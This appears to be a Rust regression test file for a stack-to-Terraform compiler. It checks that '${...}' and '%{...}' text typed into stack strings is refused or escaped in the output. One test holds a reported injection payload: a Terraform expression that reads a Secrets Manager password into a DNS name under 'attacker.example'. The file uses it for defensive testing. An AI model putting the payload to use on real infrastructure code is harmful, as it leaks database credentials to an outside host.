//! Text from a stack is data, never Terraform code: a `${…}` or `%{…}` typed into any string of
//! a stack either is refused by the checker or reaches the output escaped (`$${…}`, `%%{…}`),
//! so Terraform reads it back as the text the user typed.
//!
//! Every string literal of every stack in `stacks/` and `tests/cases/ok/` is mutated in turn
//! (the payload appended, and the payload alone), each mutant is compiled, and every file of
//! every root is searched for the payload: each occurrence must be escaped.

use crate::common;

use std::path::{Path, PathBuf};

const MARKER: &str = "pmigc_injected";
const PAYLOADS: [&str; 2] = ["${pmigc_injected}", "%{pmigc_injected}"];

/// The byte ranges of the insides of the string literals of a stack (between the quotes).
fn string_literals(text: &str) -> Vec<std::ops::Range<usize>> {
    let mut ranges = Vec::new();
    let mut open = None;
    let mut comment = false;
    for (i, c) in text.char_indices() {
        match (c, open) {
            ('\n', None) => comment = false,
            ('#', None) => comment = true,
            ('"', None) if !comment => open = Some(i + 1),
            ('"', Some(start)) => {
                ranges.push(start..i);
                open = None;
            }
            _ => {}
        }
    }
    ranges
}

/// The text of every Terraform file a build writes for a stack in `dir` (its boot scripts are
/// read there), or `None` when the checker refuses it.
fn build(dir: &Path, text: &str) -> Option<Vec<String>> {
    let checked = pmigc::check_source_with(text, &mut common::reader(dir.to_path_buf()));
    if checked.has_errors() {
        return None;
    }
    let mut files = Vec::new();
    for stack in &checked.stacks {
        let root = pmigc::root_of(stack, &[]).unwrap();
        for (_, text) in pmigc::emit::render_files(&root) {
            files.push(text);
        }
    }
    Some(files)
}

/// Whether every occurrence of the marker in `text` is inside an escaped sequence.
fn all_escaped(text: &str) -> bool {
    text.match_indices(MARKER).all(|(at, _)| {
        let before = &text[..at];
        before.ends_with("$${") || before.ends_with("%%{")
    })
}

/// Every stack and `ok/` case, with its directory.
fn stacks() -> Vec<(PathBuf, String)> {
    let mut texts = Vec::new();
    for dir in ["stacks", "tests/cases/ok"] {
        let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
        let mut paths: Vec<_> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "pmig"))
            .collect();
        paths.sort();
        texts.extend(
            paths
                .iter()
                .map(|p| (dir.clone(), std::fs::read_to_string(p).unwrap())),
        );
    }
    texts
}

#[test]
fn no_string_of_a_stack_becomes_an_interpolation() {
    let mut compiled = 0;
    let mut reached_output = 0;
    let mut slots = 0;
    for (dir, text) in stacks() {
        for range in string_literals(&text) {
            slots += 1;
            let inside = &text[range.clone()];
            for payload in PAYLOADS {
                for mutated in [format!("{inside}{payload}"), payload.to_string()] {
                    let mut mutant = text.clone();
                    mutant.replace_range(range.clone(), &mutated);
                    let Some(files) = build(&dir, &mutant) else {
                        continue;
                    };
                    compiled += 1;
                    let all: String = files.concat();
                    if all.contains(MARKER) {
                        reached_output += 1;
                    }
                    assert!(
                        all_escaped(&all),
                        "`{mutated}` in place of `{inside}` reached the output unescaped"
                    );
                }
            }
        }
    }
    // The test means something only if many strings took the payload all the way through.
    assert!(slots >= 40, "{slots} string slots");
    assert!(
        reached_output >= 30,
        "{reached_output} of {compiled} compiled mutants carried the payload into the output"
    );
}

/// The line from the report: a password read into a public DNS name. It builds, and the DNS
/// name is exactly the text typed, `${` included.
#[test]
fn the_reported_exploit_is_text() {
    let payload = "${jsondecode(data.aws_secretsmanager_secret_version.db.secret_string).password}";
    // As the legacy host it is not a DNS name: refused before anything is built (PMG1206).
    let text = include_str!("../../stacks/payment.pmig").replace(
        "legacy   = \"legacy.pay.example.com\"",
        &format!("legacy   = \"{payload}.x.attacker.example\""),
    );
    let checked = pmigc::check_source(&text);
    let codes: Vec<&str> = checked
        .diagnostics
        .iter()
        .map(|d| d.code.as_str())
        .collect();
    assert_eq!(codes, ["PMG1206"]);
    // In a slot that takes any text (the DMS source user), it reaches Terraform as text.
    let text = include_str!("../../stacks/payment.pmig").replace(
        "username = \"dms_reader\"",
        &format!("username = \"{payload}\""),
    );
    let roots = common::compile(&text);
    // The user name is a quoted string literal inside the expression that writes the DMS
    // endpoint's secret, escaped once (`$${` inside a string literal is a literal `${`; checked
    // with `terraform apply` of `jsonencode({"u" = "$${x}"})`, which gives `{"u":"${x}"}`).
    for (_, root) in roots {
        let secret = root["resource"]["aws_secretsmanager_secret_version"]["onprem_to_aws_source"]
            ["secret_string_wo"]
            .as_str()
            .unwrap()
            .to_string();
        assert!(
            secret.contains(&format!("\"username\" = \"${payload}\"")),
            "{secret}"
        );
        assert!(!secret.contains("$$${"), "{secret}");
    }
}
